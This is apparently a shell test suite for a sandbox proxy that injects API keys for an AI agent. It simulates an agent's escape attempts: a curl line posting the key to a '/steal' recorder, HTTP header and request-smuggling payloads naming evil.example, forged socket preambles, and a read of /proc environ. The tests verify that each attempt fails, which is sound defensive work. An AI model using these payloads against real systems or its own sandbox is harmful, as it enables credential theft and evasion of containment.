#!/bin/sh
# Escape attempts against credential injection: the agent inside wants the
# key, or wants the key sent somewhere else, or wants a request of its own
# to ride on an injected connection. It talks raw bytes to the endpoint and
# to the proxy's socket; the host checks what the upstream stand-in (and a
# recorder on the host's loopback) received.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lib"
. "$(dirname "$0")/../inject-lib.sh"

# A python client inside: sends each argument's bytes (Python escapes) on a
# fresh connection to the anthropic endpoint (or to the proxy's unix socket
# with "unix:" before it) and prints what came back.
RAW_CLIENT='
import os, socket, sys
port = int(os.environ["ANTHROPIC_BASE_URL"].rsplit(":", 1)[1])
for arg in sys.argv[1:]:
    if arg.startswith("unix:"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("/run/agent-sandbox/proxy.sock")
        arg = arg[5:]
    else:
        s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(20)
    s.sendall(arg.encode("latin-1").decode("unicode_escape").encode("latin-1"))
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except OSError:
        pass
    print("=== " + out.decode("latin-1").split("\r\n")[0])
    sys.stdout.flush()
'

raw()
{
	printf '%s' "$RAW_CLIENT" >"$T/work/raw.py"
	sbx_anthropic "$PY" raw.py "$@"
}

test_placeholder_replayed_to_another_host_is_only_a_placeholder()
{
	setup_upstream ok
	start_recorder
	# shellcheck disable=SC2016
	sbx_anthropic --localhost "$rec_port" sh -c 'curl -sS --max-time 20 \
		-H "x-api-key: $ANTHROPIC_API_KEY" -H "Authorization: Bearer $ANTHROPIC_API_KEY" \
		-d "key=$ANTHROPIC_API_KEY" "http://127.0.0.1:$1/steal"' sh "$rec_port"
	expect_status 0
	grep -qF "agent-sandbox-credential-" "$T/traffic" || fail "the recorder got nothing"
	! grep -qF -- "$KEY" "$T/traffic" || fail "the key reached another host"
}

# The host process holds the key: another process of the user (a crashed
# one's core dump, a debugger, whatever the agent left running on the host)
# cannot read its memory or environment.
test_the_process_holding_the_key_is_not_dumpable()
{
	[ "$(id -u)" -ne 0 ] || skip "root reads any process's memory"
	setup_upstream ok
	ANTHROPIC_API_KEY=$KEY "$AS" --credential anthropic \
		--resolve "api.anthropic.com=127.0.0.1:$up_port" \
		sh -c 'touch started; sleep 30' >"$T/out" 2>"$T/err" </dev/null &
	pid=$!
	echo "$pid" >>"$T/pids"
	i=0
	while [ ! -e "$T/work/started" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
	[ -e "$T/work/started" ] || fail "the sandbox did not start: $(cat "$T/err")"
	got=$(cat "/proc/$pid/environ" 2>/dev/null | tr '\0' '\n' | grep -c -- "$KEY" || true)
	kill "$pid" 2>/dev/null
	wait "$pid" 2>/dev/null
	[ "$got" = 0 ] || fail "another process of the user read the key from /proc/$pid/environ"
}

test_header_smuggling_is_refused()
{
	setup_upstream ok
	raw 'POST /v1/fold HTTP/1.1\r\nX-A: a\r\n x-api-key: smuggled\r\nContent-Length: 0\r\n\r\n' \
		'POST /v1/cr HTTP/1.1\r\nX-A: a\rHost: evil.example\r\nContent-Length: 0\r\n\r\n' \
		'POST /v1/dup HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}' \
		'POST /v1/te HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
		'POST /v1/nul HTTP/1.1\r\nX-A: a\x00b\r\n\r\n' \
		'POST /v1/sp HTTP/1.1\r\nx-api-key : smuggled\r\n\r\n'
	expect_status 0
	[ "$(grep -c "=== HTTP/1.1 4" "$T/out")" -eq 6 ] || fail "not every smuggling attempt was refused: $(out)"
	expect_out_contains "=== HTTP/1.1 411"
	expect_upstream_lacks "smuggled"
	expect_upstream_lacks "evil.example"
	[ ! -s "$T/upstream.log" ] || fail "a refused request reached the upstream: $(cat "$T/upstream.log")"
}

test_second_request_on_the_connection_never_reaches_upstream()
{
	setup_upstream ok
	raw 'POST /v1/one HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}GET /v1/two HTTP/1.1\r\nHost: evil.example\r\n\r\n' \
		'GET /v1/three HTTP/1.1\r\n\r\nGET /v1/four HTTP/1.1\r\n\r\n'
	expect_status 0
	expect_upstream_has "POST /v1/one"
	expect_upstream_has "GET /v1/three"
	expect_upstream_lacks "/v1/two"
	expect_upstream_lacks "/v1/four"
	expect_upstream_lacks "evil.example"
	# Each response told the client to close.
	[ "$(grep -c "=== HTTP/1.1 200" "$T/out")" -eq 2 ] || fail "unexpected answers: $(out)"
}

test_huge_head_is_refused()
{
	setup_upstream ok
	# shellcheck disable=SC2016
	sbx_anthropic sh -c 'big=$(head -c 20000 /dev/zero | tr "\0" a)
		curl -sS --max-time 20 -i -H "X-Big: $big" "$ANTHROPIC_BASE_URL/v1/big" | head -1'
	expect_out_contains "431"
	[ ! -s "$T/upstream.log" ] || fail "the huge head reached the upstream"
}

test_forged_preamble_on_the_proxy_socket_gains_nothing()
{
	setup_upstream ok
	raw 'unix:\x02\x00GET /v1/forged HTTP/1.1\r\nHost: evil.example\r\nx-api-key: mine\r\n\r\n' \
		'unix:\x02\x07GET /v1/nosuch HTTP/1.1\r\n\r\n' \
		'unix:\x02\x00GET http://evil.example/v1/abs HTTP/1.1\r\n\r\n' \
		'unix:\x02\x00CONNECT evil.example:443 HTTP/1.1\r\n\r\n'
	expect_status 0
	# The forged preamble reaches what the endpoint reaches: its one
	# upstream, with the key the proxy adds, never the host it named.
	expect_upstream_has "GET /v1/forged"
	expect_upstream_lacks "evil.example"
	expect_upstream_lacks "x-api-key: mine"
	expect_upstream_lacks "/v1/nosuch"
	expect_upstream_lacks "/v1/abs"
	[ "$(grep -c "=== HTTP/1.1 400" "$T/out")" -eq 3 ] || fail "unexpected answers: $(out)"
}

test_unpinned_name_resolving_to_loopback_gets_no_key()
{
	# A credential whose upstream resolves to this machine (DNS says
	# 127.0.0.1) without a pin the user wrote: the key is not sent.
	make_certs
	start_recorder
	printf '%s\n' "$KEY" >"$HOME/x.key"
	mkdir -p "$HOME/.config/agent-sandbox"
	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
{"credentials": {"x": {"file": "~/x.key", "hosts": ["localhost"], "base-url-env": "X_BASE_URL",
                       "ca": "$T/pki/ca.pem"}}}
EOF
	sbx --credential x sh -c 'curl -sS --max-time 20 "$X_BASE_URL/q"'
	expect_out_contains "public addresses only"
	[ ! -s "$T/traffic" ] || fail "something reached the host's loopback"
}

test_plaintext_upstream_never_sees_the_key()
{
	# A man in the middle answering without TLS (or the pin pointing at a
	# plain server): the handshake fails and nothing of the request leaves.
	make_certs
	global_config
	start_standin plain
	sbx_anthropic sh -c 'curl -sS --max-time 20 -i -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
	expect_out_contains "502"
	expect_out_lacks "from-plaintext"
	grep -q "PLAIN" "$T/upstream.log" || fail "the stand-in saw no connection"
	expect_upstream_lacks "$KEY"
	expect_upstream_lacks "/v1/messages"
}

run_tests
